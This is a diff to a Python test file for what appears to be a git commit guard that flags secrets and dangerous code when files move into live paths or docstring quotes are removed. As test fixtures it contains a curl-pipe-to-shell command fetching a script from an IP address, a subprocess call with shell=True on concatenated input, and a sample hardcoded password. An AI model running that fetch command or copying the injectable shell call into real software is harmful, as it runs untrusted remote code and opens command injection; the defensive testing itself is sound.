@@ -4,10 +4,15 @@ import json
 from pathlib import Path
 
 import pytest
+from examples import table
 from repositories import Repo, key
 
-from cli_guard.model import Decision
+from cli_guard.git.between import SnapshotContents
+from cli_guard.model import ChangeSet, Decision, FileChange, Status
+from cli_guard.policy.decisions import Policy
 from cli_guard.review.request import Staged
+from cli_guard.reviewers import code, secrets
+from cli_guard.reviewers.review_input import ReviewInput
 
 FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
 SCRIPT = f"#!/bin/sh\n{FETCH}\n"
@@ -24,6 +29,7 @@ MOVES = [
     ("ci/a.yml", ".github/workflows/a.yml", WORKFLOW),
     ("d.txt", "Dockerfile", f"FROM debian:12\nRUN {FETCH}\n"),
     ("p.json", "package.json", PACKAGE),
+    ("docs/a.py", "src/a.py", 'DB_PASSWORD = "vK8#qw2LmX!9z"\n'),
     ("a.txt", "a.py", f'import subprocess\n\n\ndef f(x):\n    subprocess.run("{FETCH}" + x, shell=True)\n'),
 ]
 
@@ -75,6 +81,44 @@ def test_a_rename_in_the_same_role_is_not(guarded: Repo, old: str, new: str, tex
     guarded.commit("Before", {old: text})
     move(guarded, old, new)
     guarded.git("commit", "-q", "-m", "Rename")
+
+
+PASSWORD = 'DB_PASSWORD = "vK8#qw2LmX!9z"\n'
+SHELL = 'import subprocess\n\n\ndef f(x):\n    subprocess.run("tar " + x, shell=True)\n'
+
+
+def moved(old: str, new: str, text: str) -> list[tuple[str, str]]:
+    """What the reviewers of secrets and code find in a file that only moves."""
+    change = FileChange(new, Status.RENAMED, old_path=old)
+    contents = SnapshotContents({old: text}, {new: text})
+    subject = ReviewInput("test", ChangeSet((change,)), contents).under(Policy())
+    found = (*secrets.review(subject).findings, *code.review(subject).findings)
+    return [(each.rule, each.severity) for each in found]
+
+
+@table(
+    ("old", "new", "text", "expected"),
+    [
+        ("docs/settings.py", "src/settings.py", PASSWORD, [("secret-password", "critical")]),
+        ("examples/settings.py", "app/settings.py", PASSWORD, [("secret-password", "critical")]),
+        ("tests/conftest.py", "src/settings.py", PASSWORD, [("secret-password", "critical")]),
+        ("notes/settings.txt", "app/settings.py", PASSWORD, [("secret-password", "critical")]),
+        ("tests/fixtures/a.ini", "config/a.ini", PASSWORD, [("secret-password", "critical")]),
+        ("docs/a.py", "src/a.py", SHELL, [("code-python-shell", "high")]),
+        ("tests/helpers.py", "src/helpers.py", SHELL, [("code-python-shell", "high")]),
+        ("vendor/a/a.py", "src/a.py", SHELL, [("code-python-shell", "high")]),
+        ("src/settings.py", "docs/settings.py", PASSWORD, []),
+        ("docs/settings.py", "docs/code/settings.py", PASSWORD, []),
+        ("src/settings.py", "lib/settings.py", PASSWORD, []),
+        ("config/a.ini", "config/b.ini", PASSWORD, []),
+        ("tests/a.py", "tests/b/a.py", SHELL, []),
+        ("docs/a.py", "src/a.py", "x = 1\n", []),
+    ],
+)
+def test_a_move_that_takes_into_use_is_reviewed_whole(
+    old: str, new: str, text: str, expected: list[tuple[str, str]]
+) -> None:
+    assert moved(old, new, text) == expected
 
 
 RUN = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash deploy.txt\n"
@@ -170,6 +214,15 @@ def test_removed_lines_that_let_others_run(guarded: Repo, before: str, removed: 
     refused = guarded.try_git("commit", "-q", "-m", "Remove lines")
     assert refused.code != 0
     assert "by what the change removes" in " ".join(refused.all.split())
+
+
+def test_removed_quotes_around_code(guarded: Repo) -> None:
+    guarded.commit("A docstring", {"a.py": f'"""\n{SHELL}"""\n'})
+    guarded.write("a.py", SHELL)
+    guarded.git("add", "-A")
+    refused = guarded.try_git("commit", "-q", "-m", "Remove the quotes")
+    assert refused.code != 0
+    assert "the change puts this line into effect without touching it" in " ".join(refused.all.split())
 
 
 @pytest.mark.parametrize(
